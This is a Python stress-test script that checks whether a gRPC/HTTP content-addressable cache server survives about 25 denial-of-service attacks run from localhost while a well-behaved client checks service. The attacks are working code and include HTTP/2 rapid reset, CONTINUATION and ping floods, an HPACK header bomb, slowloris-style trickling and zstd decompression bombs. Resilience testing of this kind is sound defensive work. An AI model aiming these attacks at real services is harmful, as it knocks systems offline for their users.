#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A client that means no good, on raw sockets: HTTP/2 frames made by hand for gRPC, and HTTP/1.1.

    attack.py GRPC_HOST:PORT HTTP_HOST:PORT PID SECONDS [ATTACK...]

All attacks at once (or those that are named), each in a process of its own and from 127.0.0.2, while a polite client at 127.0.0.1 asks
what clients ask. Prints how the polite client fared and what memory the server (PID) held. Status 0 when the server lives, the polite
client was served through both doors meanwhile, and everything of it afterwards. `attack.py --list` names the attacks.
"""
import hashlib
import http.client
import multiprocessing
import os
import random
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CAS = "/build.bazel.remote.execution.v2.ContentAddressableStorage/"
WRITE, READ = "/google.bytestream.ByteStream/Write", "/google.bytestream.ByteStream/Read"


# ---- messages, by hand

def varint(number):
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    out.append(number)
    return bytes(out)


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def digest_of(data):
    return hashlib.sha256(data).hexdigest(), len(data)


def digest(hash_, size):
    return field(1, hash_) + field(2, size)


def grpc(message):
    return b"\0" + struct.pack(">I", len(message)) + message


def find_missing(hash_, size):
    return field(2, digest(hash_, size))


def update(*blobs):
    return b"".join(field(2, field(1, digest(*digest_of(blob))) + field(2, blob)) for blob in blobs)


def zstd_bomb(megabytes, window_log=17):
    """One frame of zeros: each block of four bytes is 128 KiB."""
    head = struct.pack("<I", 0xFD2FB528) + b"\0" + bytes([(window_log - 10) << 3])
    block = struct.pack("<I", (131072 << 3) | 2)[:3] + b"\0"
    return head + block * (megabytes * 8) + struct.pack("<I", 1)[:3]


# ---- HTTP/2

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    value = value.encode() if isinstance(value, str) else value
    if len(value) < 127:
        return bytes([len(value)]) + value
    return b"\x7f" + varint(len(value) - 127) + value


def header_block(path, extra=()):
    block = b""
    for name, value in [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
                        ("te", "trailers"), ("content-type", "application/grpc"), *extra]:
        block += b"\0" + text(name) + text(value)
    return block


class Connection:
    def __init__(self, address, settings=b"", source="127.0.0.2", timeout=5):
        self.socket = socket.create_connection(address, timeout, (source, 0))
        self.stream = -1
        self.initial = self.window = 65535  # of a stream, of the connection
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        self.socket.sendall(data)

    def call(self, path, message=None, end=True, extra=()):
        """Opens a stream; the bytes of it, whatever the flow control says."""
        self.stream += 2
        out = frame(HEADERS, END_HEADERS, self.stream, header_block(path, extra))
        if message is not None:
            data = grpc(message)
            pieces = range(0, len(data), 16384)
            for at in pieces:
                last = end and at == pieces[-1]
                out += frame(DATA, END_STREAM if last else 0, self.stream, data[at:at + 16384])
        return out

    def drain(self):
        """Takes what is there, so that the server does not wait for us."""
        self.socket.setblocking(False)
        try:
            while self.socket.recv(1 << 16):
                pass
            raise ConnectionError("closed")
        except BlockingIOError:
            pass
        finally:
            self.socket.settimeout(5)

    def take(self, got):
        """The next frame behind what was got before: kind, flags, stream, payload, and what is got of others."""
        while len(got) < 9 or len(got) < 9 + int.from_bytes(got[:3], "big"):
            more = self.socket.recv(1 << 16)
            if not more:
                raise ConnectionError("closed")
            got += more
        end = 9 + int.from_bytes(got[:3], "big")
        return got[3], got[4], int.from_bytes(got[5:9], "big"), got[9:end], got[end:]

    def unary(self, path, message):
        """The bytes of the answer; b"" when there is none. Keeps to flow control."""
        self.send(self.call(path))
        data, sent, got, answer, window = grpc(message), 0, b"", b"", self.initial
        while True:
            while sent < len(data) and min(window, self.window) > 0:
                piece = data[sent:sent + min(16384, window, self.window)]
                sent += len(piece)
                window -= len(piece)
                self.window -= len(piece)
                self.send(frame(DATA, END_STREAM if sent == len(data) else 0, self.stream, piece))
            kind, flags, stream, payload, got = self.take(got)
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
                for at in range(0, len(payload), 6):
                    name, value = struct.unpack(">HI", payload[at:at + 6])
                    if name == 4:
                        window += value - self.initial
                        self.initial = value
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == WINDOW and stream == 0:
                self.window += struct.unpack(">I", payload)[0]
            elif kind == WINDOW and stream == self.stream:
                window += struct.unpack(">I", payload)[0]
            elif kind == GOAWAY:
                raise ConnectionError("sent away")
            elif stream == self.stream and kind == DATA:
                answer += payload
                self.send(frame(WINDOW, 0, 0, struct.pack(">I", len(payload) or 1)) +
                          frame(WINDOW, 0, stream, struct.pack(">I", len(payload) or 1)))
            if stream == self.stream and (kind == RST or (kind in (DATA, HEADERS) and flags & END_STREAM)):
                return answer


def write_request(name, offset, data, finish):
    return field(1, name) + field(2, offset) + (field(3, 1) if finish else b"") + field(10, data)


def upload_name(hash_, size, kind="blobs"):
    return "uploads/%08x-0000-4000-8000-000000000000/%s/%s/%d" % (random.getrandbits(32), kind, hash_, size)


def random_hash():
    return "%064x" % random.getrandbits(256)


# ---- attacks: one turn each, again and again until the time is over

def rapid_reset(target):
    connection = Connection(target.grpc)
    for _ in range(200):
        out = b""
        for _ in range(100):
            out += connection.call(CAS + "FindMissingBlobs", find_missing(random_hash(), 1))
            out += frame(RST, 0, connection.stream, struct.pack(">I", 8))
        connection.send(out)
        connection.drain()
        target.check()


def continuation_flood(target):
    connection = Connection(target.grpc)
    connection.send(frame(HEADERS, 0, 1, header_block(CAS + "GetTree")))
    filler = b"\0" + text("x" * 100) + text("y" * 4000)
    for _ in range(20000):
        connection.send(frame(CONTINUATION, 0, 1, filler * 3))
        target.check()


def empty_continuations(target):
    connection = Connection(target.grpc)
    connection.send(frame(HEADERS, 0, 1, header_block(CAS + "GetTree")))
    while True:
        connection.send(frame(CONTINUATION, 0, 1) * 1000)
        target.check()


def settings_flood(target):
    connection = Connection(target.grpc)
    while True:  # and never reads what is answered
        connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, random.randrange(1, 1 << 20)) * 10) * 200)
        target.check()


def ping_flood(target):
    connection = Connection(target.grpc)
    while True:
        connection.send(frame(PING, 0, 0, b"12345678") * 1000)
        target.check()


def empty_frames(target):
    connection = Connection(target.grpc)
    connection.send(connection.call(WRITE))
    while True:
        connection.send(frame(DATA, 0, 1) * 1000 + frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 100 + frame(77, 0, 1, b"x"))
        connection.drain()
        target.check()


def header_bomb(target):
    """A header of 4,000 bytes in the table, and then a byte for each of 10,000 more of it."""
    connection = Connection(target.grpc)
    put = b"\x40" + text("x-bomb") + text("b" * 3900)
    for _ in range(50):
        connection.stream += 2
        block = header_block(CAS + "FindMissingBlobs") + put + b"\xbe" * 10000
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream, block))
        connection.drain()
        target.check()


def huge_headers(target):
    connection = Connection(target.grpc)
    for _ in range(50):
        connection.send(connection.call(CAS + "FindMissingBlobs", b"", extra=[("x-%d" % i, "v" * 900) for i in range(16)]))
        connection.drain()
        target.check()


def many_streams(target):
    connection = Connection(target.grpc)
    for _ in range(100):
        connection.send(b"".join(connection.call(WRITE) for _ in range(100)))
        connection.drain()
        target.check()
    time.sleep(1)


def zero_window(target):
    """Asks for much and takes none of it."""
    connections = []
    for _ in range(20):
        connection = Connection(target.grpc, struct.pack(">HI", 4, 0))
        for _ in range(20):
            connection.send(connection.call(READ, field(1, "blobs/%s/%d" % target.blob)))
            connection.send(connection.call(CAS + "BatchReadBlobs", field(2, digest(*target.small)) * 3))
        connections.append(connection)
        target.check()
    target.rest(5)


def stalled_trees(target):
    """Sixty walks through a wide tree, of which some pages are read and then nothing more: each remembers all that it has met."""
    connections = []
    for _ in range(15):
        connection = Connection(target.grpc, struct.pack(">HI", 4, 24 << 20))
        connection.send(frame(WINDOW, 0, 0, struct.pack(">I", 96 << 20)))
        for _ in range(4):
            connection.send(connection.call(CAS + "GetTree", field(2, digest(*target.tree))))
        connections.append(connection)
        target.check()
    for _ in range(100):
        for connection in connections:
            connection.drain()
        target.rest(0.05)
    target.rest(5)


def deep_tree(target):
    connection = Connection(target.grpc)
    for _ in range(10):
        connection.unary(CAS + "GetTree", field(2, digest(*target.deep)))
        target.check()


def slow_preface(target):
    sockets = [socket.create_connection(target.grpc, 5, ("127.0.0.2", 0)) for _ in range(100)]
    for byte in PREFACE + frame(SETTINGS, 0, 0):
        for one in sockets:
            one.send(bytes([byte]))
        target.rest(0.3)


def slow_heads(target):
    sockets = [socket.create_connection(target.http, 5, ("127.0.0.2", 0)) for _ in range(100)]
    head = b"GET /cas/" + b"0" * 64 + b" HTTP/1.1\r\n" + b"X-A: b\r\n" * 1000
    for byte in head:
        for one in sockets:
            one.send(bytes([byte]))
        target.rest(0.3)


def idle_connections(target):
    kept = [socket.create_connection(target.http, 5, ("127.0.0.2", 0)) for _ in range(700)]
    kept += [Connection(target.grpc) for _ in range(200)]
    target.rest(10)


def trickling_puts(target):
    sockets = []
    for _ in range(700):
        one = socket.create_connection(target.http, 5, ("127.0.0.2", 0))
        sockets.append(one)
        try:
            one.send(b"PUT /cas/%s HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n" % random_hash().encode())
        except OSError:
            pass  # This address has its part already.
        target.check()
    for _ in range(100):
        gone = 0
        for one in sockets:
            try:
                one.send(b"x")
            except OSError:
                gone += 1
        if gone == len(sockets):
            return
        target.rest(0.5)


def slow_readers(target):
    sockets = []
    for _ in range(100):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.bind(("127.0.0.2", 0))
        one.settimeout(5)
        one.connect(target.http)
        one.send(b"GET /cas/%s HTTP/1.1\r\nHost: x\r\n\r\n" % target.blob[0].encode())
        sockets.append(one)
        target.check()
    for _ in range(40):
        for one in sockets:
            one.recv(10)
        target.rest(0.5)


def trickling_writes(target):
    """Small blobs of which nearly all is sent, and then a byte at a time."""
    connections, size = [], 1000000
    for _ in range(5):
        connection = Connection(target.grpc)
        streams = []
        for _ in range(100):
            name, offset = upload_name(random_hash(), size), 60000
            connection.send(connection.call(WRITE, write_request(name, 0, b"x" * offset, False), end=False))
            streams.append([connection.stream, offset])
        connections.append((connection, streams))
        connection.drain()
        target.check()
    for _ in range(20):
        for connection, streams in connections:
            for one in streams:
                connection.send(frame(DATA, 0, one[0], grpc(write_request("", one[1], b"x", False))))
                one[1] += 1
            connection.drain()
        target.rest(0.5)


def endless_uploads(target):
    """Of a size that is never reached, and of one that is passed."""
    connection = Connection(target.grpc)
    for size in (1 << 39, 1000):
        name, offset = upload_name(random_hash(), size), 0
        connection.send(connection.call(WRITE, write_request(name, 0, b"x" * 10000, False), end=False))
        for _ in range(200):
            offset += 10000
            data = grpc(write_request("", offset, b"x" * 10000, False))
            connection.send(frame(DATA, 0, connection.stream, data))
            connection.drain()
            target.rest(0.01)


def half_closed(target):
    connection = Connection(target.grpc)
    for _ in range(100):
        connection.send(connection.call(WRITE, write_request(upload_name(random_hash(), 5000), 0, b"x" * 100, False)))
        connection.send(connection.call(CAS + "FindMissingBlobs", find_missing(random_hash(), 1), end=False))
        connection.send(frame(DATA, END_STREAM, connection.stream, b"\0\0"))
        connection.drain()
        target.check()
    connection.socket.shutdown(socket.SHUT_WR)
    target.rest(1)


def window_overflow(target):
    for stream in (0, 1):
        connection = Connection(target.grpc)
        connection.send(connection.call(WRITE))
        for _ in range(3):
            connection.send(frame(WINDOW, 0, stream, struct.pack(">I", 0x7FFFFFFF)))
        connection.send(frame(WINDOW, 0, 1, struct.pack(">I", 0)))
        connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0xFFFFFFFF)))
        target.rest(0.2)


def bombs_by_http(target):
    for length in (("Content-Length", None), ("Transfer-Encoding", "chunked")):
        body = zstd_bomb(2000)
        one = http.client.HTTPConnection(*target.http, timeout=20, source_address=("127.0.0.2", 0))
        try:
            one.request("PUT", "/cas/" + random_hash(), iter([body]) if length[1] else body, {"Content-Encoding": "zstd"},
                        encode_chunked=bool(length[1]))
            one.getresponse().read()
        finally:
            one.close()
        target.check()


def bombs_by_grpc(target):
    connection = Connection(target.grpc)
    for size, window_log in ((10, 17), (1 << 20, 17), (1 << 30, 27)):
        for _ in range(20):
            body = zstd_bomb(500, window_log)
            name = upload_name(random_hash(), size, "compressed-blobs/zstd")
            connection.send(connection.call(WRITE, write_request(name, 0, body, True)))
            entry = field(1, digest(random_hash(), size)) + field(2, body) + field(3, 1)
            connection.send(connection.call(CAS + "BatchUpdateBlobs", field(2, entry)))
            connection.drain()
            target.check()


def giant_names(target):
    connection = Connection(target.grpc)
    for size in (5000, 100000, 4000000):
        connection.unary(READ, field(1, "blobs/" + "a" * size + "/1"))
        connection.unary(WRITE, write_request("uploads/" + "a" * size + "/blobs/x/1", 0, b"", True))
        connection.unary(CAS + "FindMissingBlobs", find_missing("a" * size, 1))
        connection.unary(CAS + "FindMissingBlobs", field(1, "i" * size) + find_missing(random_hash(), 1 << 63))
        connection.unary(CAS + "BatchReadBlobs", field(2, digest("f" * size, (1 << 64) - 1)))
        target.check()


def odd_http(target):
    for head in (b"GET /" + b"a" * 200000 + b" HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 30000 + b"\r\n",
                 b"PUT /cas/%s HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n" % random_hash().encode(),
                 b"PUT /cas/%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" % random_hash().encode(),
                 b"GET /cas/%s HTTP/1.1\r\nHost: x\r\nRange: bytes=%s\r\n\r\n" % (target.blob[0].encode(), b"0-1," * 5000),
                 PREFACE, os.urandom(5000), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(500)):
        for address in (target.http, target.grpc):
            with socket.create_connection(address, 5, ("127.0.0.2", 0)) as one:
                one.settimeout(0.2)
                try:
                    one.sendall(head)
                    one.recv(1000)
                except OSError:
                    pass
            target.check()


ATTACKS = [rapid_reset, continuation_flood, empty_continuations, settings_flood, ping_flood, empty_frames, header_bomb,
           huge_headers, many_streams, zero_window, stalled_trees, deep_tree, slow_preface, slow_heads, idle_connections,
           trickling_puts, slow_readers, trickling_writes, endless_uploads, half_closed, window_overflow, bombs_by_http,
           bombs_by_grpc, giant_names, odd_http]


class Over(Exception):
    pass


class Target:
    """What is attacked, until when, and what lies there."""

    def __init__(self, grpc_address, http_address):
        self.grpc, self.http = address_of(grpc_address), address_of(http_address)
        self.until = None

    def check(self):
        if time.monotonic() >= self.until:
            raise Over

    def rest(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.check()
            time.sleep(min(0.1, seconds))

    def prepare(self):
        connection = Connection(self.grpc, source="127.0.0.1", timeout=60)
        rng = random.Random(7)
        small, blob = rng.randbytes(900000), rng.randbytes(3000000)
        self.small, self.blob = digest_of(small), digest_of(blob)
        connection.unary(CAS + "BatchUpdateBlobs", update(small))
        connection.unary(CAS + "BatchUpdateBlobs", update(blob))
        root = b""
        for i in range(12):
            one = b"".join(field(2, field(1, "%d" % j) + field(2, digest(rng.randbytes(32).hex(), 100))) for j in range(30000))
            connection.unary(CAS + "BatchUpdateBlobs", update(one))
            root += field(2, field(1, "d%02d" % i) + field(2, digest(*digest_of(one))))
        connection.unary(CAS + "BatchUpdateBlobs", update(root))
        self.tree = digest_of(root)
        chain, level = [], b""
        for _ in range(5000):
            level = field(2, field(1, "d") + field(2, digest(*digest_of(level))))
            chain.append(level)
        for at in range(0, len(chain), 1000):
            connection.unary(CAS + "BatchUpdateBlobs", update(*chain[at:at + 1000]))
        self.deep = digest_of(level)


def address_of(text_):
    host, port = text_.rsplit(":", 1)
    return host, int(port)


def attack(function, target, turns):
    os.nice(10)  # it is memory and room that are to be used up, not the processors of who tests
    while True:
        try:
            function(target)
        except Over:
            break
        except (OSError, http.client.HTTPException):
            time.sleep(0.05)
        turns.value += 1
        if time.monotonic() >= target.until:
            break


# ---- who means well

class Polite:
    """Asks with a connection that it makes anew when it fails; and at once again, once, as clients do."""

    def __init__(self, target):
        self.target, self.results = target, {}

    def healthz(self):
        one = http.client.HTTPConnection(*self.target.http, timeout=5)
        one.request("GET", "/healthz")
        assert one.getresponse().status == 200
        one.close()

    def http(self):
        data = os.urandom(50000)
        one = http.client.HTTPConnection(*self.target.http, timeout=20)
        path = "/cas/" + hashlib.sha256(data).hexdigest()
        one.request("PUT", path, data)
        answer = one.getresponse()
        answer.read()
        assert answer.status in (200, 201), answer.status
        one.request("GET", path)
        assert one.getresponse().read() == data
        one.close()

    def grpc(self):
        data = os.urandom(50000)
        one = Connection(self.target.grpc, source="127.0.0.1", timeout=20)
        assert one.unary(CAS + "BatchUpdateBlobs", update(data))
        assert one.unary(CAS + "FindMissingBlobs", find_missing(*digest_of(data))) == grpc(b"")
        one.socket.close()

    def was_served(self):
        return len(self.results) == 3 and all(one[0] > 0 for one in self.results.values())

    def turn(self):
        good = True
        for kind in (self.healthz, self.http, self.grpc):
            result = self.results.setdefault(kind.__name__, [0, 0, 0.0, ""])
            began = time.monotonic()
            for again in (True, False):
                try:
                    kind()
                    result[0] += 1
                    break
                except (OSError, AssertionError, http.client.HTTPException) as why:
                    if not again:
                        result[1] += 1
                        result[3] = repr(why)
                        good = False
            result[2] = max(result[2], time.monotonic() - began)
        return good


def memory(pid):
    with open("/proc/%d/status" % pid, encoding="ascii") as status:
        for line in status:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) / 1024
    return 0


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(one.__name__ for one in ATTACKS))
        return 0
    target = Target(sys.argv[1], sys.argv[2])
    pid, seconds, names = int(sys.argv[3]), float(sys.argv[4]), sys.argv[5:]
    chosen = [one for one in ATTACKS if not names or one.__name__ in names]
    target.prepare()
    polite = Polite(target)
    calm = all(polite.turn() for _ in range(3))
    polite.results.clear()
    before = memory(pid)
    target.until = time.monotonic() + seconds
    running, turns, peaks = [], {}, []
    for one in chosen:
        turns[one.__name__] = multiprocessing.Value("L", 0)
        process = multiprocessing.Process(target=attack, args=(one, target, turns[one.__name__]), daemon=True)
        process.start()
        running.append(process)
    told = time.monotonic()
    while time.monotonic() < target.until or (not polite.was_served() and time.monotonic() < target.until + 60):
        polite.turn()
        peaks.append(memory(pid))
        if time.monotonic() - told > 15:
            told = time.monotonic()
            print("  rss %.0f MiB" % peaks[-1], flush=True)
        time.sleep(0.1)
    for process in running:
        process.join(max(0, target.until + 1 - time.monotonic()))
        process.kill()
    print("attacks: " + " ".join("%s=%d" % (name, value.value) for name, value in turns.items()))
    served = polite.was_served()
    for kind, (good, bad, worst, why) in polite.results.items():
        print("polite %s: %d of %d, the slowest took %.2f s %s" % (kind, good, good + bad, worst, why))
    after = False
    for _ in range(60):
        time.sleep(0.5)
        polite.results.clear()
        after = all(polite.turn() for _ in range(3))
        if after:
            break
    half = len(peaks) // 2
    print("rss before %.0f MiB, at most %.0f in the first half and %.0f in the second, %.0f afterwards" %
          (before, max(peaks[:half] or [0]), max(peaks[half:] or [0]), memory(pid)))
    print("served before=%s during=%s after=%s" % (calm, served, after))
    return 0 if calm and served and after else 1


if __name__ == "__main__":
    sys.exit(main())
